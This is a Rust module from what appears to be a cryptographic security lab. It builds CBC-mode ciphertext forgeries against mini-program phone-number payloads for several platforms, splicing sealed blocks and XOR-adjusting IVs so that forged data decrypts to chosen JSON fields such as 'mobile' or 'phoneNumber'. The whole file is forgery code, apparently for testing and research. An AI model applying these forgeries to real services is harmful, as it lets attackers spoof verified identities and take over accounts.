//! Attacks on CBC without the key: combine sealed blocks, and choose the plaintext of a block by the ciphertext of the
//! previous block. <https://en.wikipedia.org/wiki/Block_cipher_mode_of_operation#CBC>

use mp_phone::Platform;

use crate::{
    lab::{Lab, length},
    payloads::APP_KEY,
    seal::{Block, KnownPayload, xor},
};

/// Receives a forgery: kind, iv and ciphertext.
pub(crate) type SendForgery<'a> = &'a mut dyn FnMut(&'static str, Block, &[Block]);

pub(crate) struct Forged {
    pub(crate) iv: Block,
    pub(crate) sealed: Vec<Block>,
}

impl Forged {
    /// Begins with a chosen plaintext block, made from one of the attacker's sealed blocks by changing the bytes in
    /// front of it. The attacker changes the iv to choose the plaintext. On Baidu the attacker changes the sealed
    /// block in front instead, which decrypts to the random bytes of the frame that the package ignores.
    pub(crate) fn head(lab: &Lab, payload: &KnownPayload, at: usize, target: Block) -> Self {
        let lever = xor(payload.opened(at), target);
        match lab.platform {
            Platform::Baidu => Self { iv: payload.iv, sealed: vec![lever, payload.sealed[at]] },
            _ => Self { iv: lever, sealed: vec![payload.sealed[at]] },
        }
    }

    /// Begins with the beginning of a payload.
    pub(crate) fn begin(payload: &KnownPayload, end: usize) -> Self {
        Self { iv: payload.iv, sealed: payload.sealed[..end].to_vec() }
    }

    /// Continues with blocks of a payload. The first block is garbled, unless it follows its own predecessor.
    pub(crate) fn run(mut self, payload: &KnownPayload, blocks: core::ops::Range<usize>) -> Self {
        self.sealed.extend(&payload.sealed[blocks]);
        self
    }

    /// Continues with a garbled block and a block of the attacker's choice, in the place of one of the attacker's
    /// blocks.
    pub(crate) fn choose(mut self, payload: &KnownPayload, at: usize, target: Block) -> Self {
        self.sealed.extend([xor(payload.opened(at), target), payload.sealed[at]]);
        self
    }

    pub(crate) fn send(&self, kind: &'static str, send: SendForgery) {
        send(kind, self.iv, &self.sealed);
    }
}

/// First blocks that an attacker would put in front of the blocks from `at + 1` to `end`.
pub(crate) fn heads(lab: &Lab, payload: &KnownPayload, at: usize, end: usize) -> Vec<Block> {
    let starts: &[&[u8]] = match lab.platform {
        Platform::Baidu => return framed_heads(payload, at, end),
        Platform::Wecom => &[
            br#"{"mobile":"13912"#,
            br#"{"mobile":139123"#,
            br#"{ "mobile":"1999"#,
            br#"{  "mobile":"199"#,
            br#"{   "mobile":"19"#,
            br#"{    "mobile":"1"#,
            br#"{     "mobile":""#,
            br#"{    "mobile":13"#,
            br#"{        "mobile"#,
            br#"{"corpid":"ww012"#,
            br#"{"userid":"usera"#,
        ],
        _ => &[
            br#"{"phoneNumber":""#,
            br#"{"phoneNumber":1"#,
            br#"{"phoneNumber": "#,
            br#"{   "phoneNumber"#,
            br#"{"purePhoneNumbe"#,
            br#"{"countryCode":""#,
            br#"{"countryCode":4"#,
            br#"{"watermark":{"t"#,
            br#"{"watermark":"xx"#,
            br#"{"watermark":{},"#,
            br#"{"mobile":"13912"#,
            br#"{"x":"xxxxxxxxxx"#,
            b"{               ",
        ],
    };
    starts.iter().map(|start| (*start).try_into().unwrap()).collect()
}

/// In the first block of a frame's content the attacker chooses the length and twelve bytes of the content.
fn framed_heads(payload: &KnownPayload, at: usize, end: usize) -> Vec<Block> {
    let starts: &[&[u8; 12]] = &[
        br#"{"mobile":"1"#,
        br#"{"mobile":13"#,
        br#"{"mobile":"+"#,
        br#"{"mobile":"-"#,
        br#" {"mobile":""#,
        b"{    \"mobile",
        br#"{"sex":0,"mo"#,
    ];
    let rest = payload.plain[at + 1..end].concat();
    // The content ends before an App Key: that of the frame, or a copy in the attacker's own text.
    let ends = rest.windows(APP_KEY.len()).enumerate().filter(|(_, text)| *text == APP_KEY.as_bytes());
    let lengths = ends.map(|(key_at, _)| 12 + key_at).chain([12, rest.len() / 2]);
    let block = |(length_of, start): (usize, &[u8; 12])| [&length(length_of)[..], start].concat().try_into().unwrap();
    lengths.flat_map(|of| starts.iter().map(move |start| (of, *start))).map(block).collect()
}

/// Blocks that are useful to an attacker in the middle, after a garbled block.
pub(crate) fn middles(platform: Platform) -> &'static [&'static [u8; 16]] {
    match platform {
        Platform::Baidu => {
            &[br#""}SyntheticAppKe"#, br#"","mobile":"1391"#, br#"":1,"mobile":139"#, b"139123456780\"}Sy"]
        }
        Platform::Wecom => &[
            br#"","mobile":"1391"#,
            br#"","mobile":13912"#,
            br#"x","mobile":"139"#,
            br#"":1,"mobile":139"#,
            br#"","corpid":"ww01"#,
            br#"","userid":"user"#,
        ],
        _ => &[
            br#"","phoneNumber":"#,
            br#"":1,"phoneNumber"#,
            br#""purePhoneNumber"#,
            br#"","purePhoneNumb"#,
            br#"":1,"countryCode"#,
            br#","countryCode":""#,
            br#"","watermark":{""#,
            br#""},"phoneNumber""#,
            br#"13912345678","pu"#,
            br#"","x":"xxxxxxxxx"#,
        ],
    }
}
